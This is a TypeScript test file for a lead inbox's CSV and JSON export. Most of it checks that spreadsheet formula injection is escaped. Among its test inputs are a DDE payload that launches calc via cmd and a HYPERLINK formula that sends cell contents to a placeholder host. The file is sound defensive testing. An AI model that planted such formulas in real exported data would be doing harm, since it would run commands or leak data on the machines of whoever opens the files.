import { expect, test, vi } from 'vitest'
import { until } from '../../../../build/golden/browser/until.ts'
import { allFields } from '../../../../engine/form/conditions.ts'
import { shortLabel } from '../../../../relay/delivery/email/content.ts'
import { inboxRoutes } from '../../../../relay/desk/inbox/routes.ts'
import { exportCsv, exportJson } from '../../../../relay/desk/leads/export.ts'
import type { Lead } from '../../../../relay/store/submission.ts'
import { formById, forms } from '../../../categories/own.ts'
import { afterThis, allSent, collector, postCar, relayForTest, runSql } from '../harness.ts'
import { enterInbox } from './inbox-visitor.ts'

const lead = (seq: number, answers: Readonly<Record<string, string>>): Lead => ({
  seq,
  id: `id-${seq}`,
  fingerprint: '',
  form: 'car',
  mailbox: 'vehicles',
  category: 'Cars',
  subject: 'A subject',
  replyTo: undefined,
  facts: Object.fromEntries(
    ['name', 'email'].flatMap((name) => (answers[name] ? [[name, { text: answers[name], paths: [name] }]] : [])),
  ),
  fillTimeMs: undefined,
  fields: Object.entries(answers).map(([name, text]) => ({ name, label: `Label of ${name}`, text })),
  receivedAt: 0,
  isQuarantined: false,
  messageId: '',
  deliveries: [],
  state: 'reached',
  changedBy: 'sam',
  changedAt: 60_000,
  notes: [],
  reason: undefined,
  callAt: undefined,
  tries: 0,
  owner: undefined,
  firstCalledAt: undefined,
  caller: undefined,
  callingAt: undefined,
})

/** Leads as the store returns them. */
const storeOf = (all: readonly Lead[]) => ({
  async *all() {
    for (let start = 0; start < all.length; start += 50) yield all.slice(start, start + 50)
  },
})

async function textOf(chunks: AsyncGenerator<string>): Promise<string> {
  let text = ''
  for await (const chunk of chunks) text += chunk
  return text
}

const csvOf = async (answers: Readonly<Record<string, string>>) =>
  (await textOf(exportCsv(storeOf([lead(1, answers)]), {}, [formById('car')], 'UTC'))).split('\r\n')

test('CSV has the columns of the category files, and other answers in the last one', async () => {
  const [header, row] = await csvOf({ name: 'Sam', gone: 'Old answer', email: 'sam@example.com' })
  expect(header).toMatch(
    /^\uFEFFReference,Received \(UTC\),State,Name,Phone,Email,From,To,Miles,Cargo,Date,Category,Mailbox,Owner,Tries,/,
  )
  expect(header).toMatch(/,Other answers$/)
  expect(row).toMatch(/^[^,]+,1970-01-01 00:00,Reached,Sam,,sam@example.com,/)
  expect(row).toMatch(/,1970-01-01 00:01,sam,/)
  expect(row).toMatch(/,Label of gone: Old answer$/)
})

test.each([
  ['-1', '\u200b-1'],
  ['\tx', `'\tx`],
  ['\rx', `"'\rx"`],
  ['\nx', `"'\nx"`],
  [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
  ['=HYPERLINK("https://x.example?"&A1,"a")', `"'=HYPERLINK(""https://x.example?""&A1,""a"")"`],
  ...[
    ...['+1 (512) 555-0142', '+15125550142', '(512) 555-0142', '(303)', '02134', '00501', '0044207946095', '1-2-2031'],
    ...['6/15', 'Dec 2', '3 Mar', 'March 3, 2031', 'Jan-20', '10 am', '12:30', '1e5', '50%', '$1200', 'TRUE', '１２'],
  ].map((text) => [text, text.includes(',') ? `"\u200b${text}"` : `\u200b${text}`]),
  ...['0', '2019', '1.5', '12345678901', '2030-06-15', '2019 Honda Civic', 'May Sample', 'Sat & Sun'].map((text) => [
    text,
    text,
  ]),
  ['a "b", c\nd', '"a ""b"", c\nd"'],
  ['7=1+1', '7=1+1'],
  ['Austin - Denver', 'Austin - Denver'],
  // In a country with semicolons between cells, quotes in the middle of one don't keep it together.
  ['a;=1+1', `a;'=1+1`],
  ['x;"=1+1;y', `"x;'""=1+1;y"`],
  ['z\t""=2+2', `"z\t'""""=2+2"`],
  ['"=1+1', `"'""=1+1"`],
  ['"quoted"', `"""quoted"""`],
  ['two\n=1+1\nlines', `"two\n'=1+1\nlines"`],
  ['two\r\n \u200b@A1', `"two\r\n' \u200b@A1"`],
] as [string, string][])('the answer %j is the cell %j', async (answer, cell) => {
  expect((await csvOf({ name: answer })).join('\r\n')).toContain(`,${cell},`)
})

test('a sign that a spreadsheet takes for the start of a formula gets an apostrophe, whatever is before it that nobody sees', async () => {
  const signs = [...'=+-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻−']
  const blanks = [
    '',
    ' ',
    '\u00a0',
    '\u3000',
    '\ufeff',
    '\u200b',
    '\u200e',
    '\u2060',
    '\u00ad',
    '\u034f',
    '\u0001',
    ' \ufeff \u200d',
  ]
  for (const answer of signs.flatMap((sign) => blanks.map((blank) => `${blank}${sign}A1`)))
    expect((await csvOf({ name: answer })).join('\r\n')).toContain(`,'${answer},`)
})

test('every cell is safe, also those of the head, of a group, of other answers and of the note', async () => {
  const form = formById('car')
  const attack = '=1+1'
  const { name, ...others } = form.schema.properties
  const properties = { name: { ...name, title: attack }, ...others }
  const titled = { ...form, schema: { ...form.schema, properties } } as typeof form
  const one = {
    ...lead(1, { name: attack, gone: attack }),
    category: attack,
    notes: [attack],
    changedBy: attack,
    mailbox: attack,
  }
  const text = await textOf(exportCsv(storeOf([one]), {}, [titled], 'UTC'))
  expect(text.match(/'=1\+1/g)).toHaveLength(5)
  expect(text).not.toMatch(/(^|[,\n"])=/)
})

test('a cell of any letters is written at once', async () => {
  for (const word of ['mon', 'jan', 'am', '1e', 'marapr'])
    expect((await csvOf({ name: `1${word.repeat(5_000)}!` })).join()).toContain(word)
})

test('a question that only a condition asks has its own column', async () => {
  const asked = forms.flatMap((form) =>
    Object.entries(allFields(form.schema)).flatMap(([name, { title = '' }]) =>
      name in form.schema.properties ? [] : [{ form, name, title: shortLabel(title) }],
    ),
  )
  expect(asked.length).toBeGreaterThan(0)
  for (const { form, name, title } of asked) {
    const one = { ...lead(1, {}), form: form.id, fields: [{ name, label: title, text: 'an answer' }] }
    const text = await textOf(exportCsv(storeOf([one]), {}, [form], 'UTC'))
    const [header = '', row = ''] = text.split('\r\n')
    expect([name, row.split(',')[header.split(',').indexOf(title)]]).toEqual([name, 'an answer'])
  }
})

test('JSON has every answer as it is, of as many leads as there are', async () => {
  const leads = Array.from({ length: 401 }, (_, index) => lead(401 - index, { name: '=1+1' }))
  const list = JSON.parse(await textOf(exportJson(storeOf(leads), {})))
  expect(list).toHaveLength(401)
  expect(list[0]).toMatchObject({ state: 'reached', answers: [{ name: 'name', text: '=1+1' }] })
  expect(JSON.parse(await textOf(exportJson(storeOf([]), {})))).toEqual([])
})

/** Opens a route of the inbox whose store has these leads, and more if more are asked for. */
async function inboxWith(leads: readonly Lead[]) {
  const state = { read: 0, isEnded: false }
  async function* all() {
    try {
      while (true) {
        state.read += 1
        yield leads
      }
    } finally {
      state.isEnded = true
    }
  }
  const app = inboxRoutes({
    store: { leads: { all }, now: async () => 0 },
    forms: () => [],
    timeZone: 'UTC',
    timeZones: {},
    access: { token: 'a-token-for-the-test' },
  } as never)
  const entry = await app.request('/?token=a-token-for-the-test')
  const response = await app.request('/export.json', { headers: { cookie: entry.headers.get('set-cookie') ?? '' } })
  return { state, response }
}

test('the inbox reads leads only as the browser takes them, and stops when it leaves', async () => {
  const { state, response } = await inboxWith([lead(1, { name: 'Sam' })])
  expect([response.status, state.read]).toEqual([200, 0])
  const reader = response.body?.getReader()
  for (let taken = 1; taken <= 3; taken += 1) {
    await reader?.read()
    await new Promise((resolve) => setImmediate(resolve))
    expect(state).toEqual({ read: taken, isEnded: false })
  }
  await reader?.cancel()
  expect(state).toEqual({ read: 3, isEnded: true })
})

/** Starts a relay with enough leads that an export doesn't fit into the buffers of a connection, and begins to save them. */
async function beginExport() {
  const { log, events } = collector()
  const relay = await relayForTest({}, { log })
  await postCar(relay.url)
  await until('the email is written', () => allSent(relay.data))
  const name = `'name' || value`
  const numbers =
    'WITH RECURSIVE numbers (value) AS (VALUES (2) UNION ALL SELECT value + 1 FROM numbers WHERE value < 2000)'
  runSql(
    relay.data,
    `${numbers} INSERT INTO submissions (id, fingerprint, form, mailbox, subject, fields, facts, received_at, quarantined, message_id, derived_rule)
    SELECT ${name}, ${name}, 'car', 'vehicles', printf('%.*c', 10000, 'x'), '[]', '{}', 1, 0, '', 1 FROM numbers;
    ${numbers} INSERT INTO leads (submission, form, mailbox, received_at, quarantined) SELECT value, 'car', 'vehicles', 1, 0 FROM numbers`,
  )
  const { cookie } = await enterInbox(relay)
  const ended = new AbortController()
  const response = await fetch(`${relay.url}/inbox/export.json?state=all`, {
    headers: { cookie },
    signal: ended.signal,
  })
  const reader = response.body?.getReader()
  await reader?.read()
  return { relay, events, reader, leave: () => ended.abort() }
}

test('a browser that leaves while it saves leads causes no line in the log, and no error', async () => {
  const written = (['error', 'info', 'log', 'warn'] as const).map((name) => vi.spyOn(console, name))
  afterThis(() => written.map((each) => each.mockRestore()))
  const { relay, events, leave } = await beginExport()
  leave()
  for (let ask = 0; ask < 20; ask += 1) expect((await fetch(`${relay.url}/healthz`)).status).toBe(200)
  await relay.close()
  expect(written.flatMap(({ mock }) => mock.calls)).toEqual([])
  expect([events('export-failed'), events('request-error')]).toEqual([[], []])
})

test('an export that fails in the middle breaks off, and is logged without what visitors wrote', async () => {
  const { relay, events, reader } = await beginExport()
  runSql(relay.data, 'ALTER TABLE leads RENAME TO gone')
  const rest = async () => {
    while (!(await reader?.read())?.done);
  }
  await expect(rest()).rejects.toThrow()
  expect(events('export-failed')).toMatchObject([{ error: expect.any(String) }])
})

test('the inbox exports what its list shows', async () => {
  const relay = await relayForTest()
  await postCar(relay.url)
  await postCar(relay.url, { name: 'Kim', pickupLocation: 'Boise, ID' })
  const { get } = await enterInbox(relay)
  const csv = await get('/inbox/export.csv?q=from+texas&when=week')
  expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="leads-[\d-]{10}\.csv"$/)
  const text = await csv.text()
  expect(text).toContain('Sam Sample')
  expect(text).not.toContain('Kim')
  expect(await (await get('/inbox/export.json?form=car')).json()).toHaveLength(2)
})
